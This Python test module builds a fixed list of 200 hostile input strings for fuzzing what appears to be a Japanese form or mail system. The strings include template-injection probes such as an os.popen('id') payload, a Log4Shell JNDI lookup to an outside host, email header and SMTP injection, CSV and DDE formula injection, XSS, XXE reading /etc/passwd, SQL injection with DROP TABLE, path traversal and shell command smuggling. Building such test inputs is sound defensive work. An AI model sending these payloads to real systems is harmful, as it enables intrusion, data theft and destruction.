"""Two hundred texts that somebody might type, paste or send to do harm; the same for every run."""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping
from typing import Any

EVALUATED = "51317"
"""What the expressions below give where something evaluates them: 7331 times 7."""

_EXPRESSIONS = (
    "{{7331*7}}",
    "{% print(7331*7) %}",
    "${7331*7}",
    "#{7331*7}",
    "=7331*7",
    "=string(7331*7)",
    "<%= 7331*7 %>",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{config}}",
    "{%include '/etc/passwd'%}",
    "{{ self._TemplateReference__context }}",
    "%(name)s %s %n %x",
    "{0.__class__}",
    "${jndi:ldap://198.51.100.1/a}",
)
_HEADERS = (
    "山田\r\nBcc: everyone@example.org",
    "山田\nBcc: everyone@example.org",
    "山田\rBcc: everyone@example.org",
    "山田%0d%0aBcc:everyone@example.org",
    "山田\u2028Bcc: everyone@example.org",
    "山田\x85Bcc: everyone@example.org",
    "\r\n\r\n本文の始まり",
    "\r\n.\r\nMAIL FROM:<x@example.org>\r\n",
    "=?utf-8?q?=0D=0ABcc:_everyone=40example.org?=",
    '"><everyone@example.org>',
    "山田 <everyone@example.org>, a",
    "a@example.org,b@example.org",
    "a@example.org\nb@example.org",
    "@example.org",
    "a@[127.0.0.1]",
    'a"@example.org',
    "a@example.org>; RCPT TO:<b@example.org",
    "x" * 65 + "@example.org",
    "--=_boundary--",
)
_FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x")',
    "'=1",
)
_MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "]]><a/>",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
    "&lt;b&gt; &amp;amp; &#0;",
    "<w:p><w:r/></w:p>",
    "[x](javascript:alert(1))",
)
_DATABASE = (
    "'; DROP TABLE mail;--",
    "' OR '1'='1",
    '"; SELECT 1;--',
    "\\'; --",
    "%' ESCAPE '!",
    "$$; --",
    "NULL",
    ":name ?",
)
_PATHS = (
    "../../etc/passwd",
    "/etc/passwd",
    "..\\..\\x",
    "file:///etc/passwd",
    "CON",
    ".",
    "..",
    "a/../../b",
    "~root",
    "$(id)",
    "`id`",
    "; id",
    "| id",
    "x" * 300 + ".txt",
)
_SIGNS = (
    "\0",
    "a\0b",
    "\x07\x1b[31m",
    "\u202eabc\u202c",
    "a\u200bb",
    "\ufeffa",
    "\ufffe",
    "\uffff",
    "\ud800",
    "\udfff\ud800",
    "👨‍👩‍👧‍👦",
    "🏴\U000e0067\U000e007f",
    "e\u0301" * 50,
    "Z͑ͫ̓ͪ̂" * 40,
    "神\ufe00",
    "\U000e0100",
    "\U0010ffff",
    "﷽" * 40,
    "\u3000",
    " ",
    "",
    "\t",
    "\u00ad",
    "ﾊﾝｶｸ",
    "１２３",
    "㍿",
)
_NUMBERS = (
    "1e309",
    "-1",
    "9" * 400,
    "NaN",
    "Infinity",
    "0x10",
    "1_000",
    "٣",
    "½",
    "１",
    "-0",
    "00",
    "1.5",
    "true",
    "null",
)
_DAYS = (
    "令和99年13月32日",
    "昭和64年1月8日",
    "平成0年1月1日",
    "0000-00-00",
    "9999-12-31",
    "2026-02-30",
    "R8.4.1.1",
    "2026-04-01T25:61:61",
    "明日",
    "-2026-04-01",
)
_JSON = ("[]", "{}", '{"$ref": "#"}', "[" * 500, '{"__proto__": {}}')
_LONG = ("あ" * 10_000, "a" * 100_000, "a " * 20_000, "\n" * 5_000, "a\n" * 3_000, "(" * 5_000 + ")" * 5_000)


def hostile(count: int = 200) -> list[str]:
    """Return ``count`` different texts, all kinds from the first few on."""
    kinds = [_EXPRESSIONS, _HEADERS, _SIGNS, _LONG, _FORMULAS, _MARKUP, _DATABASE, _PATHS, _NUMBERS, _DAYS, _JSON]
    texts = [kind[number] for number in range(max(map(len, kinds))) for kind in kinds if number < len(kind)]
    within = [f"株式会社{text}代表" for kind in (_EXPRESSIONS, _HEADERS, _SIGNS, _MARKUP, _DATABASE) for text in kind]
    return list(dict.fromkeys([*texts, *within]))[:count]


def leaves(value: Any, path: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    """Yield the place of every single value in JSON."""
    entries = value.items() if isinstance(value, Mapping) else enumerate(value) if isinstance(value, list) else None
    if entries is None:
        yield path
        return
    for key, entry in entries:
        yield from leaves(entry, (*path, key))


def replaced(value: Any, path: tuple[str | int, ...], new: Any) -> Any:
    """Return JSON with one value replaced."""
    copy = json.loads(json.dumps(value))
    place = copy
    for key in path[:-1]:
        place = place[key]
    place[path[-1]] = new
    return copy
